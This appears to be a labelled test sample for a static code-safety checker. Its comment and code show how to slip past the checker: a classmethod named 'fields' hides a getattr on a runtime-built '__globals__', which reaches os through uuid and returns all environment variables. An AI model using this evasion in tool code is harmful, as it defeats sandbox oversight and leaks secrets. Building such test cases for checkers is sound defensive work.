# family: env
# Escape: Schema.fields(...) is "a call named fields", so getattr(obj, f.name) is trusted as a dataclass field
# read. The names are built at run time: uuid.uuid4.__globals__ holds os (uuid imports it), so the
# second step reads os.environ.
import uuid


class Schema:
    def __init__(self, name: str):
        self.name = name

    @classmethod
    def fields(cls, obj) -> list:
        edge = "_" * 2
        return [cls(edge + "globals" + edge)]


def tool() -> dict:
    for f in Schema.fields(None):
        namespace = getattr(uuid.uuid4, f.name)
        return dict(namespace["os"].environ)
    return {}
